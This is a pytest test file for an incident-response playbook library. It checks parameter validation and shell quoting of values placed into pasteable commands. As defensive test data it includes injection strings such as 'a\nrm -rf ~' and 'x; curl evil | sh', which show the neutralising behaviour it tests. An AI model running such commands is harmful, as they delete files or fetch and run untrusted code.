"""What a run may be given for a parameter."""

from typing import Any

import pytest

from incidentio.core.playbook import Parameter
from incidentio.core.steps import Manual, with_item


@pytest.mark.parametrize(("given", "means"), [("live", "live"), (3, "3"), ("007", "007")])
def test_a_number_stands_for_its_digits_where_a_text_is_wanted(given: Any, means: str) -> None:
    assert Parameter(type="string", pattern="[a-z0-9]+").checked("alias", given) == means


@pytest.mark.parametrize("given", [True, None, ["live"], "x" * 257])
def test_nothing_else_is_a_text(given: Any) -> None:
    with pytest.raises(ValueError, match="alias must be a text"):
        Parameter(type="string").checked("alias", given)


def test_the_digits_must_fit_too() -> None:
    with pytest.raises(ValueError, match="must match"):
        Parameter(type="string", pattern="[a-z]+").checked("alias", 3)


@pytest.mark.parametrize("given", ["3", True, 3.0])
def test_a_number_must_be_one(given: Any) -> None:
    with pytest.raises(ValueError, match="limit must be an integer"):
        Parameter(type="integer").checked("limit", given)


@pytest.mark.parametrize("given", ["a\nrm -rf ~", "a\rb", "a\x00", "a\x1b[2J", "a\x85b", "a\u2028b"])
def test_a_text_is_one_line_that_steers_no_terminal(given: str) -> None:
    with pytest.raises(ValueError, match="one line without control characters"):
        Parameter(type="string", pattern="(?s:.*)").checked("alias", given)


def test_in_commands_to_paste_what_was_given_is_one_word() -> None:
    step = Manual(manual="restart ${name}", commands=("run --name ${name}", "${name}"), undo=("stop ${name} ${other}",))
    given = step.resolved({"name": "x; curl evil | sh"})
    assert given["commands"] == "run --name 'x; curl evil | sh'\n'x; curl evil | sh'"
    assert given["undo"] == "stop 'x; curl evil | sh' ${other}"
    assert given["manual"] == "restart x; curl evil | sh"


def test_an_item_is_one_word_too() -> None:
    step = with_item(Manual(manual="x", commands=("run ${item} ${name}",)), "a b")
    assert isinstance(step, Manual)
    assert step.commands == ("run 'a b' ${name}",)


@pytest.mark.parametrize(
    "line", ["echo '${name}'", 'echo "it is ${name}"', 'echo "\\"${name}"', "echo 'a\\' 'b ${name}'"]
)
def test_a_parameter_in_quotes_would_get_out_of_them(line: str) -> None:
    with pytest.raises(ValueError, match=r"write \$\{name\} without quotes"):
        Manual(manual="x", undo=(line,))


@pytest.mark.parametrize("line", ["echo 'a' ${name} 'b'", 'echo "a\\"" ${name}', "echo 'a\\' ${name}", "echo '$5'"])
def test_beside_quotes_it_may_stand(line: str) -> None:
    assert Manual(manual="x", commands=(line,)).commands == (line,)
